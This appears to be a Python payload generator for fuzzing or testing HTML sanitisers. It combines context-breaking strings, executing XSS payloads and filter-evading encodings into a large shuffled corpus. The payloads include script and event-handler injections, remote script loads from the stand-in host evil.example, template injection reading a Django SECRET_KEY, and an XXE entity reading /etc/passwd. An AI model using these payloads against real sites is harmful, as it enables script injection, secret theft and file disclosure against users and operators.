"""What attackers write into fields: a way out of where the word stands, something that runs, and a disguise.

Each payload, wherever it ran, would call ``hit`` or ask the host ``evil.example`` for something.
"""

import random
from collections.abc import Callable, Iterator
from html import escape
from itertools import cycle, islice
from urllib.parse import quote

from payloads.markup import CALL, HOST, smuggled_markup

WAYS_OUT = (
    "", '"', "'", '">', "'>", "`", "</title>", "</textarea>", "</script>", "</style>", "</template>", "</noscript>",
    "</p></div></main>", "</svg>", "</math>", "-->", "]]>", "--!>", "}}", "\\", '\\"', "\n\n", "\t|", "[^one]", "<!--",
    '"/>', "&quot;>", "</a>", "<!", "<?", "</select>", "</iframe>", "</xmp>", "</plaintext>", "*/", "[/caption]",
    "<!-- /wp:paragraph -->", "</wp-mark>",
)  # fmt: skip

WHAT_RUNS = (
    f"<script>{CALL}</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}//",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=//{HOST}/x.swf>",
    f"<form action=//{HOST}/><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<a href=javascript:{CALL}>x</a>",
    f'<a href="java&#9;script:{CALL}">x</a>',
    f'<a href="\x01javascript:{CALL}">x</a>',
    f'<a href="data:text/html,<script>{CALL}</script>">x</a>',
    f'<a href="vbscript:{CALL}">x</a>',
    f'<meta http-equiv=refresh content="0;url=//{HOST}/">',
    f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<style>@import '//{HOST}/x.css';</style>",
    f"<p style=\"background:url('//{HOST}/x.png')\">x</p>",
    f"<img srcset='//{HOST}/x.png 1x'>",
    f"<table background=//{HOST}/x.png>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<xss style=animation-name:x onanimationstart={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f" onmouseover={CALL} x=",
    f" autofocus onfocus={CALL} x=",
    f"javascript:{CALL}",
    f"//{HOST}/",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{% load i18n %}{{ settings.SECRET_KEY }}",
    f"${{{CALL}}}",
    f"[x](javascript:{CALL})",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><z>&y;</z>",
)

DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    escape,
    lambda text: escape(escape(text)),
    quote,
    lambda text: "".join(f"&#{ord(char)};" for char in text),
    lambda text: "".join(f"&#x{ord(char):x}" for char in text),
    lambda text: "".join(f"\\u{ord(char):04x}" if char in "<>\"'&" else char for char in text),
    lambda text: "".join(char.upper() if place % 2 else char for place, char in enumerate(text)),
    lambda text: text.replace("<", "<\x00").replace("script", "scr\x00ipt"),
    lambda text: text.replace(" ", "/").replace("=", "\x0c=\n"),
    lambda text: text.translate({ord("<"): "＜", ord(">"): "＞", ord('"'): "＂"}),
    lambda text: "\ufeff\u202e" + text + "\u2028",
    lambda text: text.encode("utf-7").decode("ascii"),
)


def every_payload() -> Iterator[str]:
    """Yield every sentence of the grammar, some of them the same."""
    yield from smuggled_markup()
    for way_out in WAYS_OUT:
        for runs in WHAT_RUNS:
            for disguise in DISGUISES:
                yield disguise(way_out + runs)
                yield way_out + disguise(runs)


def payloads(*, seed: int) -> list[str]:
    """Return all that differ, in the order of a seed."""
    found = sorted(set(every_payload()))
    random.Random(seed).shuffle(found)
    return found


def in_turn(pool: list[str], *, at_once: int) -> Callable[[], str]:
    """Return what gives a few payloads at each call, in turn and round after round."""
    words = cycle(pool)
    return lambda: "\n\n".join(islice(words, at_once))
